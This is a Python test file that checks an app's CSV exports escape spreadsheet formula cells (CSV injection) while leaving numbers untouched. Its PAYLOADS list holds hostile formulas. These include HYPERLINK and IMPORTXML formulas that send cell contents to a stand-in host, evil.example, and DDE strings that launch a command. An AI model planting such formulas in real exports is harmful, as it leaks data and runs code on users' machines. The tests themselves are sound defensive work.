"""Public deployments, issue 24 items 5 and 9: CSV exports that no spreadsheet runs as formulas, a session's history
tied to the address that made it, no empty ``tmp*`` file left per upload, no memory address or server path in
``/config``, and an unwritable model cache said once while the GGUF model still loads.

Figures go to ``artifacts/reliability.json`` under ``public: …`` sections (``case``, ``set_figures``).
"""

from __future__ import annotations

import csv
import io
import re

from hypothesis import given, settings
from hypothesis import strategies as st

from components.set_export import to_set_csv
from evidence.csvsafe import FORMULA_STARTS, safe_cell
from evidence.store import Side, open_store
from tests.apphelpers import case, set_figures

# ----- item 5: CSV injection -----

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")', "\t=1+1", "\r=1+1", "=1+1",
            "+1", "-1", "@x"]
HARMLESS = ["plain text", "a=b", "1+1", "'already quoted", " =leading space", "", "0.5"]


def _formula_like(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


def _number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def set_result(texts: list[str]) -> dict:
    """A finished prompt set whose prompts, references, answers and rating cells are ``texts``."""
    rows = [{"prompt": text, "reference": text, "left": {"text": text, "stats": {"mean_prob": 0.5}},
             "right": {"text": text, "stats": {}}, "scores": {"left": {"chrf": -0.5}, "right": {"chrf": 3}},
             "rating": "tie"} for text in texts]
    return {"rows": rows, "summary": {"score_labels": {"chrf": ["chrF", 100]}}}


def test_set_csv_quotes_every_formula_cell_and_keeps_numbers() -> None:
    with case("public: CSV formulas"):
        text = to_set_csv(set_result(PAYLOADS + HARMLESS))
        read = list(csv.reader(io.StringIO(text)))
        cells = [cell for row in read[1:] for cell in row]
        assert not [cell for cell in cells if _formula_like(cell) and not _number(cell)], "a formula came back"
        assert cells.count("-0.5") == len(PAYLOADS + HARMLESS)  # the left score, a number, is written as one
        for row, payload in zip(read[1:], PAYLOADS):
            assert row[1] == "'" + payload and row[3] == "'" + payload  # the prompt and the left answer
        for row, harmless in zip(read[1 + len(PAYLOADS):], HARMLESS):
            assert row[1] == harmless  # nothing else changes
    set_figures("public: CSV formulas", payloads=len(PAYLOADS), set_csv_verbatim=sum(
        1 for row in read[1:1 + len(PAYLOADS)] if row[1] in PAYLOADS))


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n'\",;|aZ0 ")), max_size=12))
def test_any_text_reads_back_as_itself_or_quoted_and_never_as_a_formula(text: str) -> None:
    [row] = list(csv.reader(io.StringIO(to_set_csv(set_result([text])).split("\n", 1)[1])))
    assert not _formula_like(row[1])
    assert row[1] == (("'" + text) if _formula_like(text) else text)


def test_numbers_stay_numbers() -> None:
    assert [safe_cell(v) for v in (-0.5, -3, 0, 2.5, None, True)] == [-0.5, -3, 0, 2.5, None, True]


def test_the_evidence_csv_export_quotes_formula_cells(tmp_path) -> None:
    store = open_store(f"sqlite:///{tmp_path}/votes.db", data_dir=tmp_path, secret=b"a test key of 32 bytes, not 16..")
    side = Side(model="=HYPERLINK(\"http://evil.example\")", kind="causal", precision="float32")
    try:
        for payload in PAYLOADS:
            cid = store.record_comparison(owner_session="s", task="translate", prompt=payload, outputs=(payload, "-2+3"),
                                          left=side, right=side, settings={"max_new_tokens": 4},
                                          stats=({"output_tokens": 3, "tokens_per_second": -0.5}, {}), blind=False)
            store.vote(cid, "s", "left")
            store.share(cid, "s", prompt=payload, outputs=(payload, "-2+3"))
        with case("public: CSV formulas"):
            verbatim = 0
            for what in ("votes", "shared"):
                out = tmp_path / f"{what}.csv"
                assert store.export(what, "csv", out) == len(PAYLOADS)
                rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
                cells = [cell for row in rows for cell in row.values()]
                verbatim += sum(1 for cell in cells if _formula_like(cell) and not _number(cell))
                assert {row["left_tokens_per_second"] for row in rows} == {"-0.5"}  # a number, not quoted
                assert {row["left_model"] for row in rows} == {"'" + side.model}
                if what == "shared":
                    assert [row["prompt"] for row in rows] == ["'" + p for p in PAYLOADS]
                    assert {row["right_output"] for row in rows} == {"'-2+3"}
            assert verbatim == 0
    finally:
        store.close()
    set_figures("public: CSV formulas", evidence_csv_verbatim=verbatim)
